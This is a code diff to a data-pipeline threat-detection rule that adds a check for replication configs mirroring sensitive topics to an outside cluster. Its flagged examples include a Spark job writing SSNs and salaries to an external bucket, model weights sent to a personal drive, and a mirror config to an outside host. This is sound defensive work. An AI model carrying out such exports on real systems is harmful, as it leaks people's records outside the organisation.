@@ -10,7 +10,7 @@ import { FLOW_RULE_PATTERNS, PIPELINE_FLOW_RULES } from './data-pipeline-flow.js
 
 /** `near` for a rule whose two signals may stand anywhere in the text (it also says scope 'whole'). */
 const WHOLE_TEXT = 1 << 30;
-import { strangeSink, controlRemoved, fabricatedTraining, lossWithoutNets, NETS_CUT, ROOT_REMOVERS, SINK_KEYS, PIPELINE_EFFECT_PATTERNS, publicIpSink, scaledMetric, scheduledRemoteCode } from '../parse/pipeline-effects.js';
+import { strangeSink, controlRemoved, fabricatedTraining, lossWithoutNets, mirroredOutside, NETS_CUT, ROOT_REMOVERS, SINK_KEYS, PIPELINE_EFFECT_PATTERNS, publicIpSink, scaledMetric, scheduledRemoteCode } from '../parse/pipeline-effects.js';
 import { quietWhenDescribed } from '../parse/prose-genre.js';
 /** Words that confine a right to a few ("only", "limited to", "restricted to", のみ, 限定) or take it back (revoke). */
 const CONFINES = /\b(?:only|solely|exclusively|limited to|restricted to|restrict|restricts|limit|limits|revoke|revoked|remove|nur|ausschließlich|ausschliesslich|seulement|uniquement|réservé|solo|solamente|únicamente|apenas|somente|soltanto|solamente|alleen|uitsluitend)\b|のみ|限定|だけ|仅|只/;
@@ -243,6 +243,17 @@ function personalFlowOrdered(ctx: PipelineContext): boolean {
   return whereInstructed('data_pipeline', ctx, L03_VERBS, ctx.head, (said) => (PII_COLUMN.test(said) && (destMeta || ANALYTICS_DEST.test(said)) ? true : null)) !== null;
 }
 
+/** Topics that carry people, money or everything: a mirror of them outside is a leak of records, not of telemetry. */
+const SENSITIVE_TOPICS = /\b(?:pay\w{0,8}|card\w{0,10}|customers?|clients?|patients?|kyc|pii|users?|members?|health|salar\w{0,4}|hr|crm|accounts?|orders?)\b|\.\*/;
+/** L03 for a mirror config: a replication flow switched on from the organisation's cluster to an outside one. */
+function mirrorOut(ctx: PipelineContext): Finding | null {
+  const host = mirroredOutside(ctx.head);
+  if (host === '' || sanctioned('data_pipeline', ctx, { outsideOk: true })) return null;
+  const at = ctx.head.indexOf('topics');
+  const topics = SENSITIVE_TOPICS.exec(ctx.head.slice(at >= 0 ? at : 0));
+  return { detail: `topics mirrored to the outside cluster ${host}${topics ? ` (${topics[0]})` : ''}`, score: topics ? 8 : 6 };
+}
+
 /** L03: what leaves (from the sentence that orders it, or the metadata) and where to. */
 function exportOut(ctx: PipelineContext, said: string): Finding | null {
   // ctx.pii is already known here: L04 runs on every check.
@@ -466,14 +477,18 @@ const rules: ThreatRule<PipelineContext>[] = [
     name: 'Exporting datasets or model weights outside the organisation',
     primitive: 'EXFILTRATION',
     score: 8,
-    keywords: ['export', 'copy', 'sync', 'upload', 'push', 'transfer', 'send', 'replicate', 'share', 'dump', 'unload', 'download', 'publish', 'move', 'mirror', 'stream', 'extract', 'write', 'save', 'rsync', 'scp', 'cp ', 'grant'],
-    pattern: /\b(?:export|copy|copies|sync|upload|push|transfer|send|replicate|share|dump|unload|download|publish|move|mirror|mirrormaker\d?|replication|stream|extract|write|save|rsync|scp|cp|grant)\w{0,4}\b/i,
-    // what leaves and where it goes are read from the sentence of the export that is ordered, not from the text
-    detect: (ctx) => whereInstructed('data_pipeline', ctx, L03_VERBS, ctx.head, (said) => exportOut(ctx, said)),
+    keywords: ['export', 'copy', 'sync', 'upload', 'push', 'transfer', 'send', 'replicate', 'share', 'dump', 'unload', 'download', 'publish', 'move', 'mirror', 'stream', 'extract', 'write', 'save', 'rsync', 'scp', 'cp ', 'grant', 'bootstrap'],
+    pattern: /\b(?:export|copy|copies|sync|upload|push|transfer|send|replicate|share|dump|unload|download|publish|move|mirror|mirrormaker\d?|replication|stream|extract|write|save|rsync|scp|cp|grant|bootstrap)\w{0,4}\b/i,
+    // what leaves and where it goes are read from the sentence of the export that is ordered, not from the text; a
+    // replication flow switched on in a mirror config says it without a verb (mirrorOut)
+    detect: (ctx) => whereInstructed('data_pipeline', ctx, L03_VERBS, ctx.head, (said) => exportOut(ctx, said)) ?? mirrorOut(ctx),
     reason: (d) => `Data leaves the organisation: ${d}`,
     examples: {
-      flag: [{ value: "spark.read.table('hr.employees').select('name','ssn','salary').write.csv('gs://share-8812/')", metadata: { bucket_owner: 'external project' } }, 'copy the model weights checkpoint to my personal Google Drive', { value: 'export the customers table as parquet', metadata: { destination: 's3://acme-partner-share-external', pii: true } }, 'upload the training dataset to a public huggingface.co repo'],
-      pass: ['Before the export to the survey vendor, drop name/email/phone and hash customer_id', 'export aggregated daily revenue metrics to the internal dashboard', 'copy the dataset to the internal feature store', 'Data incident report: a misconfigured job wrote customers_full.parquet to a public bucket for 12 minutes; object removed, access logs show no downloads.', { value: 'sync the orders table', metadata: { destination: 'snowflake.analytics.orders' } }],
+      flag: ['clusters = main, ext\nmain.bootstrap.servers = kafka-1.plant.internal:9092\next.bootstrap.servers = ingest.metrics-hub.io:9093\nmain->ext.enabled = true\nmain->ext.topics = customers.*, invoices.*',
+        { value: "spark.read.table('hr.employees').select('name','ssn','salary').write.csv('gs://share-8812/')", metadata: { bucket_owner: 'external project' } }, 'copy the model weights checkpoint to my personal Google Drive', { value: 'export the customers table as parquet', metadata: { destination: 's3://acme-partner-share-external', pii: true } }, 'upload the training dataset to a public huggingface.co repo'],
+      // (a mirror flow switched on towards another organisation's cluster, and one to the company's own DR site)
+      pass: ['clusters = main, dr\nmain.bootstrap.servers = kafka-1.plant.internal:9092\ndr.bootstrap.servers = kafka-dr.plant.internal:9092\nmain->dr.enabled = true\nmain->dr.topics = .*',
+        'Before the export to the survey vendor, drop name/email/phone and hash customer_id', 'export aggregated daily revenue metrics to the internal dashboard', 'copy the dataset to the internal feature store', 'Data incident report: a misconfigured job wrote customers_full.parquet to a public bucket for 12 minutes; object removed, access logs show no downloads.', { value: 'sync the orders table', metadata: { destination: 'snowflake.analytics.orders' } }],
     },
   },
   {
